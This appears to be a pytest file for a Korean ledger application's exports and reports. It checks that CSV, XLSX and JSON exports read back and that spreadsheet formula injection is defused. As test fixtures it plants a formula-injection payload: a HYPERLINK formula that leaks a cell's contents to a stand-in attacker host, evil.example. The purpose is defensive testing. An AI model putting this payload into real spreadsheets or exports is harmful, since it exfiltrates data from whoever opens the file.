"""Every table and view exports in every format and reads back; exports are safe to open
(formula injection defused, control characters never crash, any member name makes a valid
sheet title); CP949 for Korean Excel; a sheet that fills up continues on the next; the month
workbook has its sheets and charts and its numbers equal the statements."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import json
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from sqlalchemy import text
from sqlalchemy.orm import Session

from ledger.alerts.service import check_balances
from ledger.closing.service import close_month
from ledger.members.service import MemberInput, add_member
from ledger.pending.service import track_code
from ledger.popbill import PopbillClient
from ledger.reconcile.service import reconcile
from ledger.reports import export as exporting
from ledger.reports.files import statement_document_of
from ledger.reports.layout import format_corp_num, format_points, format_whole
from ledger.reports.statement import monthly_statement, previous_month
from ledger.simulator import Simulator
from ledger.sync.service import sync_all
from tests.conftest import client_settings, empty_ledger, small_config
from tests.reports.rendering import (
    cells_that_do_not_fit,
    chart_problems,
    charts_outside_the_print_area,
    pdf_text,
    print_settings_problems,
    print_to_pdf,
    require_tools,
    to_png,
)
from tests.reports.test_reports import ledger_cli

INJECTED, SLASHED = "1234567890", "2208112345"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
HOSTILE_TITLE = "(주)A/S센터: [본점]*? \x07끝'"
USER_FORMULA = "@SUM(1+1)\x01-"


@pytest.fixture(scope="module")
def ledger_with_everything(engine):
    """A small ledger with rows in every exportable table and hostile names in it."""
    with Simulator(small_config(history_days=70, usage_per_day=5, settle_after_polls=None)) as sim:
        with Session(engine) as session:
            for corp in (INJECTED, SLASHED):
                add_member(session, MemberInput(corp, name="임시"))
            session.commit()
        with engine.begin() as conn:  # names as they might arrive from any source, unvalidated
            conn.execute(text("UPDATE members SET name = :n WHERE corp_num = :c"), {"n": FORMULA, "c": INJECTED})
            conn.execute(text("UPDATE members SET name = :n WHERE corp_num = :c"), {"n": HOSTILE_TITLE, "c": SLASHED})
        form = {"settlecost": "55000", "settlername": "홍길동", "settleremail": "a@b.kr", "paymentname": "x"}
        deposit = sim.world.request_payment(INJECTED, form)
        refund = sim.world.request_refund(SLASHED, {"requestpoint": "1000", "accountbank": "국민", "accountnum": "1",
                                                    "accountname": "홍길동", "reason": "해지", "contactname": "홍길동",
                                                    "tel": "010"})  # fmt: skip
        sim.world.complete_refund(SLASHED, refund.refund_code)
        sim.world.drop_usage_row(INJECTED, 5)  # a discrepancy to export
        settings = dataclasses.replace(client_settings(sim), reconcile_max_sync_age=10**8)
        with PopbillClient(settings) as client:
            sync_all(engine, client, today=sim.world.today())
            sim.world.complete_payment(INJECTED, deposit.settle_code)
            sync_all(engine, client, today=sim.world.today())  # a state change
            check_balances(engine, client, settings)
        with Session(engine) as session:
            other = sim.world.request_payment(SLASHED, form)
            track_code(session, SLASHED, "settle", other.settle_code)
            session.commit()
        reconcile(engine, settings)
        month = previous_month(sim.world.today().replace(day=1))
        close_month(engine, month, "회계팀", today=sim.world.today())
        with engine.begin() as conn:
            conn.execute(text("UPDATE usages SET user_name = :n WHERE id = (SELECT min(id) FROM usages)"),
                         {"n": USER_FORMULA})  # fmt: skip
    yield engine, month
    empty_ledger(engine)


def count(engine, name: str) -> int:
    with engine.connect() as conn:
        return conn.execute(text(f"SELECT count(*) FROM {name}")).scalar()


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_every_table_exports_in_every_format_and_reads_back(ledger_with_everything, tmp_path, fmt):
    engine, _ = ledger_with_everything
    for name in exporting.EXPORTABLE:
        expected = count(engine, name)
        assert expected > 0, name  # every table really has rows here
        path = tmp_path / f"{name}.{fmt}"
        with exporting.rows_of(engine, name, None, None) as (columns, rows):
            written = exporting.write_file(columns, rows, fmt, "ko", path, name)
        assert written == expected, name
        if fmt == "csv":
            parsed = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
            assert len(parsed) == expected + 1 and len(parsed[0]) == len(columns), name
        elif fmt == "json":
            parsed = json.loads(path.read_text(encoding="utf-8"))
            assert len(parsed) == expected and set(parsed[0]) == set(columns), name
        else:
            sheet = load_workbook(path, read_only=True).active
            assert sum(1 for _ in sheet.iter_rows(values_only=True)) == expected + 1, name


def test_history_rows_export_their_uuid_key_and_service_name(ledger_with_everything, tmp_path):
    engine, _ = ledger_with_everything
    columns, rows = exporting.fetch(engine, "usages", None, None)
    path = tmp_path / "u.json"
    exporting.write_file(columns, rows, "json", "en", path, "usages")
    parsed = json.loads(path.read_text())
    keys = [r["row_key"] for r in parsed]
    assert len(keys) == len(rows) and all(len(k) == 36 and k.count("-") == 4 for k in keys)
    services = {r["item_code"]: r["service"] for r in parsed}
    assert services[110] == "전자세금계산서" and services[0] is None  # a charge is no service


def exported_csv(columns, rows) -> str:
    """CSV as `ledger export` writes it to stdout."""
    out = io.BytesIO()
    exporting.write_stream(columns, rows, "csv", "en", out)
    return out.getvalue().decode("utf-8")


def _sheet_xml(path) -> str:
    with zipfile.ZipFile(path) as archive:
        return "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))


def test_formula_injection_is_defused_in_csv_and_xlsx(ledger_with_everything, tmp_path):
    engine, month = ledger_with_everything
    columns, rows = exporting.fetch(engine, "v_monthly_statements", None, None)
    parsed = list(csv.DictReader(io.StringIO(exported_csv(columns, rows))))
    names = {r["corp_num"]: r["member_name"] for r in parsed}
    assert names[INJECTED] == "'" + FORMULA  # text, with the apostrophe OWASP prescribes
    columns, rows = exporting.fetch(engine, "usages", None, None)
    users = [r["user_name"] for r in csv.DictReader(io.StringIO(exported_csv(columns, rows)))]
    assert "'" + USER_FORMULA in users  # '@' starts a formula too; the control character is kept in CSV

    for name in ("v_monthly_statements", "usages"):
        path = tmp_path / f"{name}.xlsx"
        with exporting.rows_of(engine, name, None, None) as (columns, rows):
            exporting.write_file(columns, rows, "xlsx", "en", path, name)
        xml = _sheet_xml(path)
        assert "<f>" not in xml and "<f " not in xml  # no formula anywhere in the workbook
        values = [c.value for row in load_workbook(path).active.iter_rows() for c in row]
        assert FORMULA in values if name == "v_monthly_statements" else USER_FORMULA.replace("\x01", "\ufffd") in values

    statement = tmp_path / "s.xlsx"
    result = ledger_cli("report", "statement", "--member", INJECTED, "--month", f"{month:%Y-%m}", "--format", "xlsx",
                        "--out", str(statement))  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert "<f>" not in _sheet_xml(statement)


def test_any_member_name_makes_a_sheet_title(ledger_with_everything, tmp_path):
    engine, month = ledger_with_everything
    out = tmp_path / "s.xlsx"
    result = ledger_cli("report", "statement", "--member", SLASHED, "--month", f"{month:%Y-%m}", "--format", "xlsx",
                        "--out", str(out))  # fmt: skip
    assert result.returncode == 0, result.stderr
    title = load_workbook(out).active.title
    assert len(title) <= 31 and not set(title) & set("[]:*?/\\") and title.startswith(SLASHED)
    assert exporting.safe_sheet_title("a" * 40, ["a" * 31]) == "a" * 27 + " (2)"
    assert exporting.safe_sheet_title("'''", []) == "Sheet"


def test_cp949_for_korean_excel_and_a_clear_refusal(ledger_with_everything, tmp_path):
    engine, _ = ledger_with_everything
    out = tmp_path / "closes.csv"
    result = ledger_cli("export", "month_closes", "--encoding", "cp949", "--lang", "ko", "--out", str(out))
    assert result.returncode == 0, result.stderr
    body = out.read_bytes()
    assert not body.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(body.decode("cp949"))))
    assert rows[0][0] == "사업자번호" and any("회계팀" in r for r in rows[1:])
    out = tmp_path / "statements.csv"
    assert ledger_cli("export", "v_monthly_statements", "--encoding", "cp949", "--out", str(out)).returncode == 0
    names = {r["corp_num"]: r["member_name"] for r in csv.DictReader(io.StringIO(out.read_bytes().decode("cp949")))}
    assert names[SLASHED] == HOSTILE_TITLE  # Korean, and a control character, as stored
    with engine.begin() as conn:
        conn.execute(text("UPDATE usages SET user_name = '김🙂' WHERE id = (SELECT max(id) FROM usages)"))
    try:
        out = tmp_path / "usages.csv"
        result = ledger_cli("export", "usages", "--encoding", "cp949", "--out", str(out))
        assert result.returncode != 0 and "--encoding" in result.stderr and "row " in result.stderr, result.stderr
        assert not out.exists()  # nothing half-written
    finally:
        with engine.begin() as conn:
            conn.execute(text("UPDATE usages SET user_name = '김' WHERE id = (SELECT max(id) FROM usages)"))


def test_a_full_sheet_continues_on_the_next(ledger_with_everything, tmp_path):
    engine, _ = ledger_with_everything
    path = tmp_path / "u.xlsx"
    with exporting.rows_of(engine, "usages", None, None) as (columns, rows):
        written = exporting.write_xlsx(columns, rows, "en", path, "usages", rows_per_sheet=100)
    book = load_workbook(path, read_only=True)
    assert book.sheetnames[:2] == ["usages", "usages (2)"] and len(book.sheetnames) == -(-written // 99)
    assert sum(sum(1 for _ in s.iter_rows()) - 1 for s in book.worksheets) == written == count(engine, "usages")
    assert all(next(sheet.iter_rows(max_row=1, values_only=True))[0] == "corp_num" for sheet in book.worksheets)


def test_whole_numbers_have_no_trailing_dot(ledger_with_everything, tmp_path):
    engine, _ = ledger_with_everything
    path = tmp_path / "d.xlsx"
    with exporting.rows_of(engine, "v_deposits", None, None) as (columns, rows):
        exporting.write_file(columns, rows, "xlsx", "en", path, "deposits")
    sheet = load_workbook(path).active
    won = [row[columns.index("won")] for row in sheet.iter_rows(min_row=2)]
    assert won and all(c.number_format == "#,##0" for c in won if c.value == int(c.value))


def summary_rows(sheet) -> list[dict]:
    """The summary sheet's member rows as {column: value} (the header is row 6; the total last)."""
    from ledger.reports.workbook import SUMMARY_COLUMNS

    rows = list(sheet.iter_rows(min_row=7, values_only=True))
    return [dict(zip([key for key, _ in SUMMARY_COLUMNS], row, strict=False)) for row in rows[:-1]]


def test_month_workbook_sheets_charts_and_numbers(ledger_with_everything, tmp_path):
    engine, month = ledger_with_everything
    out = tmp_path / "month.xlsx"
    result = ledger_cli("report", "month", "--month", f"{month:%Y-%m}", "--out", str(out), "--lang", "ko")
    assert result.returncode == 0, result.stderr
    book = load_workbook(out)
    assert book.sheetnames[:2] == ["요약", "검토 대상"]
    summary = summary_rows(book["요약"])
    assert [r["corp_num"] for r in summary] == [format_corp_num(INJECTED), format_corp_num(SLASHED)]
    flagged = {row[0] for row in book["검토 대상"].iter_rows(min_row=4, values_only=True)}
    assert format_corp_num(INJECTED) in flagged  # it has open discrepancies
    for row in summary:
        corp = row["corp_num"].replace("-", "")
        statement = monthly_statement(engine, corp, month)
        assert Decimal(str(row["opening_balance"])) == statement.amount("opening_balance")
        assert Decimal(str(row["deposits_won"])) == (statement.won("deposits") or 0)
        assert Decimal(str(row["usage_points"])) == statement.amount("usage_points")
        assert Decimal(str(row["closing_balance"])) == statement.amount("closing_balance")
        assert row["check"] == 0 and isinstance(row["transactions"], int)
        assert row["month_status"] == "마감"  # the month was closed, in Korean
    for sheet in book.worksheets[2:]:
        corp = sheet.title.split()[0]
        assert format_corp_num(corp) in flagged
        assert {type(c).__name__ for c in sheet._charts} == {"LineChart", "BarChart"}
        values = [c for row in sheet.iter_rows(values_only=True) for c in row if c is not None]
        assert f"사업자번호: {format_corp_num(corp)}" in values and any(str(v).startswith("상태: 마감") for v in values)
        days = [v for v in values if isinstance(v, dt.datetime)]
        assert len(days) == (month.replace(day=28) + dt.timedelta(days=4)).replace(day=1).__sub__(month).days
    assert book["요약"].cell(row=7, column=2).data_type == "s"  # the injected name is text here too


def test_files_as_a_person_prints_them(ledger_with_everything, tmp_path):
    """The month workbook (Korean), a statement XLSX (English) and the PDF statement, printed
    as a person would: every cell fits, every sheet fits one page wide, the charts can be read,
    and the PDF's text has the member's Korean name and every figure."""
    require_tools()
    engine, month = ledger_with_everything
    workbook, statement, pdf = tmp_path / "month.xlsx", tmp_path / "statement.xlsx", tmp_path / "statement.pdf"
    for args in (["report", "month", "--lang", "ko", "--out", str(workbook)],
                 ["report", "statement", "--member", SLASHED, "--format", "xlsx", "--out", str(statement)],
                 ["report", "statement", "--member", SLASHED, "--format", "pdf", "--lang", "ko", "--out", str(pdf)]):  # fmt: skip
        result = ledger_cli(*args, "--month", f"{month:%Y-%m}")
        assert result.returncode == 0, (args, result.stderr)
    for path in (workbook, statement):
        assert cells_that_do_not_fit(path) == []
        assert print_settings_problems(path) == []
        charts, problems = chart_problems(path)
        assert charts >= 2 and problems == []
        assert charts_outside_the_print_area(path) == []
    printed = print_to_pdf([workbook, statement], tmp_path / "printed")
    first_page = pdf_text(printed[0], 1)
    # fit to one page wide: the summary's first and last columns, and its total, on its first page
    assert "사업자번호" in first_page and "미해결" in first_page and "합계" in first_page
    assert format_corp_num(SLASHED) in first_page
    for document in (*printed, pdf):
        assert to_png(document)  # pages a person can look at (tmp_path keeps them)
    text = pdf_text(pdf)
    _, doc = statement_document_of(engine, SLASHED, month, "ko")
    assert "(주)A/S센터" in text and format_corp_num(SLASHED) in text and "거래명세서" in text
    figures = [doc.points_text(r) for r in doc.rows if r.points is not None]
    figures += [format_whole(r.won) for r in doc.rows if r.won is not None]
    figures += [format_points(balance, doc.decimals) for _, balance in doc.daily]
    missing = [figure for figure in figures if figure not in text]
    assert figures and missing == []
    assert all(label.strip() in text for label in ("기초잔액", "기말잔액", "입금대기", "마감"))
